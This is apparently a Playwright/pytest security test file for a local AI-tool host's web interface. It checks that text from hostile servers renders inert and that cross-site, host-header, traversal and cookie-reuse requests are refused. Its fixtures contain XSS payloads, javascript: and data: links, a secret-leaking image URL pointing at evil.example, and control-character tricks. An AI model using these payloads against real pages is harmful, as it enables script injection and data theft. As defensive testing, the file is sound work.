"""Nothing that a server writes acts in the page, nothing leaves the computer, and nobody else comes in."""

import http.client
import http.server
import json
import os
import re
import subprocess
import sys
import threading
from functools import partial
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Browser, Page, expect

from faces.web.face import Served, served
from splice.host.items import Block, Message
from support import scenes
from support.stage import Log, Record, Stage

PAGES = ["chat", "servers", "tools", "resources", "prompts", "activity", "permissions", "settings"]

DIALOGS = [6, 2, 3, 4, 5]
"""The questions of the hostile scene that lie over the page, in their order there."""

MARKDOWN = """# Title
<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>
![pixel](http://evil.example/?q=secret) [bad](javascript:alert(4)) [ours](/do/stop)
[data](data:text/html,<script>alert(5)</script>)
[good](https://example.com/a) \u202ereversed \x1b[31m

```html
<script>alert(6)</script>
```
"""


def markdown(stage: Stage) -> None:
    stage.board.put(scenes.model_says(50, MARKDOWN))
    stage.board.put(scenes.call(51, "travel", "searchFlights", state="done", result=[Block("text", MARKDOWN)]))


def _answered(stage: Stage, *, number: int) -> None:
    stage.board.drop(f"question:{number}")


HIDDEN = {"\x1b", "\u202e", "\u200b", "\x07"}

ATTRIBUTES = """() => [...document.querySelectorAll("*")].flatMap((node) =>
  ["aria-label", "title", "alt", "placeholder"].map((each) => node.getAttribute(each) ?? "")).join("")"""


def _harmless(face: Served, page: Page, shown: str) -> None:
    """Check that what a server wrote is seen, as text, and did nothing."""
    acting = "img[src*=evil], script:not([src]), iframe, object, embed, [onerror], [onload]"
    assert page.locator(acting).count() == 0
    assert "<script>alert(1)</script>" in shown
    assert "ESC" in shown
    assert "U+202E" in shown
    assert not HIDDEN & set(shown)
    assert not HIDDEN & set(page.evaluate(ATTRIBUTES))
    assert not face.faults
    assert all(url.startswith((face.origin, "data:")) for url in face.requests)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def _read(face: Served, page: Page, role: str = "dialog", name: str | None = None) -> None:
    """Read what stands in a part of the page, once something of the server stands there."""
    part = page.get_by_role(role, name=name).first  # type: ignore[arg-type]  # a role is one of many words
    expect(part).to_contain_text("<script>alert(1)</script>")
    _harmless(face, page, part.inner_text())


@pytest.mark.parametrize("page_name", PAGES)
def test_hostile_text_in_every_field_is_only_text(browser: Browser, page_name: str) -> None:
    with served(scenes.hostile, markdown) as face:
        page = face.opened(browser, f"/{page_name}")
        for number in DIALOGS:  # one dialog after the other, and then none
            expect(page.locator(f"[data-dialog='{'trust' if number == 6 else f'question:{number}'}']")).to_be_visible()
            _read(face, page)
            face.do(partial(_answered, number=number))
        expect(page.get_by_role("dialog")).to_have_count(0)
        openers = "main .step-h[aria-expanded=false], main .li, main .vrow"
        page.evaluate("all => document.querySelectorAll(all).forEach((node) => node.click())", openers)
        if page_name in ("chat", "servers", "tools", "resources", "prompts", "activity", "permissions"):
            _read(face, page, "main")
        tabs = page.locator("main").get_by_role("tab")
        for at in range(tabs.count()):
            tabs.nth(at).click()
            _harmless(face, page, page.locator("main").inner_text())


def _alone(face: Served, number: int) -> None:
    for other in {*range(1, 10)} - {number}:
        face.do(partial(_answered, number=other))


@pytest.mark.parametrize("number", range(1, 10))
@pytest.mark.parametrize("width", [320, 1280])
def test_questions_of_a_hostile_server_are_only_text(browser: Browser, number: int, width: int) -> None:
    """On a phone all of them are dialogs; in a window those about calls are cards of the conversation."""
    with served(scenes.hostile) as face:
        _alone(face, number)
        page = face.opened(browser, width=width)
        question = page.locator("[role=dialog], [data-question]").last
        expect(question).to_contain_text("<script>alert(1)</script>")
        _harmless(face, page, question.inner_text())


def test_what_a_hostile_server_writes_and_says_is_only_text(browser: Browser) -> None:
    """Lines of stderr, log messages, messages on the wire, and what the page says of the server."""
    with served(scenes.hostile) as face:
        _alone(face, 0)
        page = face.opened(browser, "/servers/travel")
        log = page.get_by_role("log")
        expect(log).to_contain_text("<script>alert(1)</script>")
        _harmless(face, page, log.inner_text())
        page.get_by_role("button", name="Log messages").click()
        expect(log).to_contain_text("<script>alert(1)</script>")
        expect(log.locator(".lv")).to_contain_text("ESC")  # the level is the server's, too
        _harmless(face, page, log.inner_text())
        page.get_by_role("tab", name="Messages").click()
        expect(log.locator(".msg")).to_have_count(2)
        for at in range(2):
            log.locator(".msg-h").nth(at).click()
            body = log.locator(".msg-b").nth(at)
            expect(body).to_contain_text("<script>alert(1)</script>")
        _harmless(face, page, log.inner_text())


def test_results_of_a_hostile_server_are_only_text(browser: Browser) -> None:
    with served(scenes.hostile) as face:
        _alone(face, 0)
        page = face.opened(browser)
        call = page.locator("[data-call='call:42']")
        call.locator(".step-h").click()
        for name in ("Rendered", "Structured", "Raw", "Arguments"):
            call.get_by_role("tab", name=name).click()
            _harmless(face, page, call.locator(".step-b").inner_text())
        call.get_by_text("What the model wanted").click()
        _harmless(face, page, call.inner_text())
        for place in (".me", ".composer", ".panel"):  # what goes along, and what went along
            expect(page.locator(place).last).to_contain_text("ESC")
        page.goto(f"{face.origin}/#/activity")
        page.locator(".vrow").first.click()
        event = page.get_by_role("complementary", name="Event")
        for name in ("Arguments", "Result", "Record"):
            event.get_by_role("tab", name=name).click()
            _harmless(face, page, event.inner_text())


class Odd(Log):
    """An activity log whose facts are of kinds that the host does not write: somebody edited the file."""

    FACTS: ClassVar[list[dict[str, Any]]] = [
        {"tool": {"a": [1]}}, {"tool": [], "trail": "x", "state": {}},
        dict.fromkeys(("seconds", "whole", "waited", "bytes", "arguments_bytes"), "x"), {"seconds": [{}]},
        {"arguments": "x", "asked_arguments": [1], "result": {"a": 1}, "rule": {}}, {"constructor": "new"},
    ]  # fmt: skip

    def record(self, number: int) -> Record:
        return Record(number, 1_718_000_000, "call", "travel", self.FACTS[number - 1])


def test_each_record_of_an_edited_log_is_shown(browser: Browser) -> None:
    def edited(stage: Stage) -> None:
        scenes.records(stage, len(Odd.FACTS))
        scenes.servers(stage)
        stage.activity = Odd(len(Odd.FACTS))

    with served(edited) as face:
        page = face.opened(browser, "/activity")
        event = page.get_by_role("complementary", name="Event")
        for number in range(len(Odd.FACTS), 0, -1):
            page.locator(f'[data-number="{number}"]').click()
            expect(event).to_contain_text(f"Event {number}")
            if "constructor" in Odd.FACTS[number - 1]:
                expect(event).to_contain_text("Constructor")
        assert not face.faults


@pytest.mark.parametrize("width", [320, 1280])
def test_resources_and_prompts_of_a_hostile_server_are_only_text(browser: Browser, width: int) -> None:
    with served(scenes.hostile) as face:
        _alone(face, 0)
        page = face.opened(browser, width=width)
        page.get_by_role("textbox", name="Message").press_sequentially("@")
        dialog = page.get_by_role("dialog")
        chosen = dialog.get_by_role("region", name="Chosen resource")
        templates = dialog.get_by_role("treeitem").filter(has_text="template")
        expect(templates).to_have_count(2)
        back = dialog.get_by_role("button", name="Back to the list")  # on a phone one side is seen at a time
        for at in (1, 0):
            templates.nth(at).dispatch_event("click")
            expect(chosen).to_contain_text("evil")
            _read(face, page)
            if at and back.is_visible():
                back.click()
        for slot in dialog.get_by_role("combobox").all():
            slot.fill("")
            expect(dialog.get_by_role("option")).to_contain_text("<script>alert(1)</script>")
            _harmless(face, page, dialog.inner_text())
            slot.fill("\x1b[2J\u202e<b>")
        expect(dialog.locator(".uri")).to_contain_text("U+202E")
        _read(face, page)
        if back.is_visible():
            back.click()
        dialog.get_by_role("treeitem").filter(has_text="evil").filter(has_not_text="template").last.dispatch_event(
            "click"
        )
        expect(chosen.locator("pre.wrap-text")).to_contain_text("<script>alert(1)</script>")
        expect(chosen.locator("pre.hex")).to_contain_text("<script>")
        _read(face, page)
        dialog.get_by_role("button", name="Close").click()
        page.goto(f"{face.origin}/#/prompts")
        page.locator(".start").filter(has_text="evil").click()
        dialog.get_by_role("combobox").fill("<i>x</i>")
        expect(dialog.locator("mark")).to_have_text("<i>x</i>")
        expect(dialog.get_by_role("region", name="What will be sent")).to_contain_text("Link to")
        _read(face, page)


def test_markdown_shows_where_links_lead_and_loads_no_picture(browser: Browser) -> None:
    with served(scenes.empty, markdown) as face:
        page = face.opened(browser)
        said = page.locator(".said")
        expect(said).to_contain_text("picture from evil.example not loaded")
        expect(said.locator("a")).to_have_count(1)
        expect(said.locator("a")).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(said).to_contain_text("(example.com)")
        expect(said.locator(".esc")).to_have_text(["U+202E", "ESC"])
        assert not face.faults


def test_a_stream_keeps_what_stands_and_a_result_of_5_mb_is_begun(browser: Browser) -> None:
    with served(scenes.empty, scenes.servers) as face:
        page = face.opened(browser)

        def says(text: str, *, is_done: bool) -> None:
            face.do(lambda stage: stage.board.put(scenes.model_says(50, text, is_done=is_done)))

        says("| a | b |\n|---|---|\n| 1 | 2 |\n\nSecond", is_done=False)
        page.locator(".said table").evaluate("node => { node.dataset.kept = 'yes' }")
        says("| a | b |\n|---|---|\n| 1 | 2 |\n\nSecond paragraph, **whole**.", is_done=True)
        expect(page.locator(".said strong")).to_have_text("whole")
        expect(page.locator(".said table")).to_have_attribute("data-kept", "yes")
        long = [Block("text", "line of a result\n" * 320_000)]
        done = scenes.call(51, "travel", "searchFlights", state="done", result=long, bytes=5_440_000, seconds=1.0)
        face.do(lambda stage: stage.board.put(done))
        page.locator("[data-call] .step-h").click()
        page.get_by_role("button", name="Read the end").click()
        expect(page.locator(".page-text")).to_contain_text("line of a result")
        assert len(page.content()) < 500_000


@pytest.mark.parametrize(
    ("method", "path", "headers", "status"),
    [
        ("GET", "/", {"Host": "evil.example"}, 421),
        ("GET", "/", {"Host": "127.0.0.1"}, 421),
        ("GET", "/", {}, 403),
        ("GET", "/events", {}, 403),
        ("POST", "/do/stop", {"Origin": "http://evil.example"}, 403),
        ("POST", "/do/stop", {"Sec-Fetch-Site": "cross-site"}, 403),
        ("GET", "/?token=wrong", {}, 403),
        ("GET", "/static/../../app.py", {}, 404),
    ],
)
def test_strangers_stay_outside(method: str, path: str, headers: dict[str, str], status: int) -> None:
    with served(scenes.empty) as face:
        connection = http.client.HTTPConnection("127.0.0.1", face.port, timeout=5)
        connection.request(method, path, headers=headers)
        answer = connection.getresponse()
        assert answer.status == status
        assert "default-src 'none'" in str(answer.getheader("content-security-policy"))
        assert answer.getheader("access-control-allow-origin") is None
        connection.close()


def test_the_link_opens_one_browser_once_and_only_its_page_commands(browser: Browser) -> None:
    with served(scenes.empty) as face:
        page = face.opened(browser)
        other = browser.new_context().new_page()
        answer = other.goto(face.link)
        assert answer is not None
        assert answer.status == 403
        expect(other.get_by_role("heading")).to_have_text("This page needs its link")
        other.context.close()
        without = page.evaluate('fetch("/do/stop", {method: "POST"}).then((answer) => answer.status)')
        assert without == 403
        assert not face.stage.told
        cookies = {each["name"]: each for each in page.context.cookies()}
        assert cookies[f"splice-{face.port}"]["httpOnly"]
        assert cookies[f"splice-{face.port}"]["sameSite"] == "Strict"


def test_a_page_elsewhere_can_neither_read_nor_command(browser: Browser) -> None:
    with served(scenes.empty) as face, served(scenes.empty) as elsewhere:
        page = face.opened(browser)
        page.goto(f"{elsewhere.origin}/static/mark.svg")
        tried = page.evaluate(
            """async (url) => { try { return (await fetch(url, {method: "POST", credentials: "include", body: "{}",
            headers: {"content-type": "text/plain"}})).status } catch { return "refused" } }""",
            f"{face.origin}/do/stop",
        )
        assert tried == "refused"
        assert not face.stage.told


def test_what_the_browser_tells_another_port_does_not_open_the_page(browser: Browser) -> None:
    """Cookies go to every port of a host, so to programs of other people of this machine."""
    told: list[str] = []

    class Listening(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.append(str(self.headers.get("cookie")))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    with served(scenes.mid_turn) as face, http.server.HTTPServer(("127.0.0.1", 0), Listening) as elsewhere:
        page = face.opened(browser)
        thread = threading.Thread(target=elsewhere.handle_request)
        thread.start()
        page.evaluate("url => void open(url)", f"http://127.0.0.1:{elsewhere.server_port}/")
        thread.join(5)
        assert f"splice-{face.port}=" in told[0]
        connection = http.client.HTTPConnection("127.0.0.1", face.port, timeout=5)
        for path, status in (("/", 200), ("/events", 403), ("/export", 403), ("/text?call=call:1&key=x", 403)):
            connection.request("GET", path, headers={"Cookie": told[0]})
            answer = connection.getresponse()
            assert (path, answer.status) == (path, status)
            assert face.door.csrf.encode() not in answer.read()
        connection.close()
        expect(page.get_by_role("button", name="Export")).to_have_count(0)
        page.goto(f"{face.origin}/#/activity")
        page.get_by_role("button", name="Export").click()
        with page.expect_download() as download:
            page.get_by_role("menuitem", name="JSON lines").click()
        assert download.value.failure() is None
        page.reload()
        expect(page.locator(".app")).to_be_visible()


def test_the_connection_may_be_lost_and_comes_back(browser: Browser) -> None:
    with served(scenes.mid_turn) as face:
        page = face.opened(browser)
        page.wait_for_selector("[data-question]:not([data-fresh])")
        page.route("**/events*", lambda route: route.abort())
        face.break_streams()
        expect(page.locator(".banner")).to_contain_text("Connection lost")
        expect(page.locator(".ask").first.get_by_role("button", name="Deny", exact=True)).to_be_disabled()
        face.do(lambda stage: stage.board.put(Message(id="message:60", chat="chat:1", role="user", text="meanwhile")))
        page.unroute("**/events*")
        page.get_by_role("button", name="Try now").click()
        expect(page.get_by_text("meanwhile", exact=True)).to_be_visible()
        assert json.dumps(face.answers()) == "[]"


def test_the_server_ends_while_a_page_looks() -> None:
    program = (
        "import asyncio\nfrom splice.host.web.serving import run\nfrom support.stage import Stage\n"
        "raise SystemExit(asyncio.run(run(Stage(), 0, False)))"
    )
    tests = str(Path(__file__).parents[2])
    started = [sys.executable, "-c", program]
    with subprocess.Popen(
        started, stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": tests}
    ) as process:
        assert process.stderr is not None
        said = process.stderr.readline()
        found = re.search(r"http://127\.0\.0\.1:(\d+)(/\?token=\S+)", said)
        assert found is not None, said
        connection = http.client.HTTPConnection("127.0.0.1", int(found[1]), timeout=5)
        connection.request("GET", found[2])
        answer = connection.getresponse()
        page = answer.read().decode()
        cookie = str(answer.getheader("set-cookie")).partition(";")[0]
        key = re.search(r'name="csrf" content="([^"]+)"', page)
        assert key is not None
        connection.request("GET", f"/events?key={key[1]}", headers={"Cookie": cookie})
        assert connection.getresponse().status == 200
        process.terminate()
        assert process.wait(10) == 0
        connection.close()
